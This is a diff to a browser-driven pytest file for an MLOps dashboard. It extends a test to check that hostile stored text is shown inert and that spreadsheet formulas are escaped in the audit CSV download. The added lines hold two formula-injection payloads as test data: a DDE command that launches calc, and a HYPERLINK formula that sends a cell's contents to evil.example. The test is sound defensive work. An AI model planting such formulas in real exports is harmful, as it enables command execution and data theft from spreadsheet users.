@@ -18,7 +18,7 @@ from pathlib import Path
 
 import pytest
 
-from _dashboard_support import (CHROMIUM, CHROMIUM_ARGS, ROOT, StreamlitServer, assert_no_traceback,
+from _dashboard_support import (CHROMIUM, DEMO_END, CHROMIUM_ARGS, ROOT, StreamlitServer, assert_no_traceback,
                                 copy_db, log_in, open_as, require_browser, settle, shared_demo)
 from mlops_core.lifecycle import jobs, registry
 from mlops_core import ControlRoom, Identity
@@ -251,8 +251,9 @@ def test_login_roles_and_log_out(server, browser):
         context.close()
 
 
-def test_markdown_in_stored_text_fetches_nothing(tmp_path, browser):
-    """An actor name and an error message holding a Markdown image are shown as typed: no image, no request."""
+def test_hostile_stored_text_is_inert(tmp_path, browser):
+    """An actor name and an error message holding a Markdown image are shown as typed (no image, no request); a
+    reason and an actor that are spreadsheet formulas are neutralized in the CSV download."""
     from mlops_core.store import Store
     from mlops_core.store import runs as runstore
 
@@ -262,6 +263,8 @@ def test_markdown_in_stored_text_fetches_nothing(tmp_path, browser):
         run_id = runstore.insert_run(con, model=MODEL, kind="retrain", actor=hostile, status="failed",
                                      message=f"failed: {hostile} :red[alarm]")
         runstore.update_run(con, run_id, error=f"boom {hostile}", progress=1.0)
+        runstore.insert_audit(con, actor="=cmd|' /C calc'!A0", action="promote", model=MODEL,
+                              reason='=HYPERLINK("http://evil.example/?"&A1,"Click")', at=DEMO_END)
     with StreamlitServer(db, tmp_path / "streamlit.log") as srv:
         context, pg = _context(browser)
         requests = []
@@ -274,5 +277,15 @@ def test_markdown_in_stored_text_fetches_nothing(tmp_path, browser):
             assert main.locator("img").count() == 0
             assert hostile in main.inner_text()
             assert not [u for u in requests if "pixel.png" in u]
+
+            # the audit download is safe to open in a spreadsheet
+            pg.locator('[data-testid="stSidebarNav"]').locator('a[href$="/runs"]').click()
+            pg.get_by_role("heading", name="Runs & audit", exact=True).wait_for()
+            pg.get_by_role("tab", name="Audit log").click()
+            with pg.expect_download() as download:
+                pg.get_by_role("button", name="Download audit log as CSV").click()
+            text = Path(download.value.path()).read_text()
+            assert "'=HYPERLINK(" in text and "'=cmd|" in text
+            assert ',=' not in text and '"=' not in text
         finally:
             context.close()
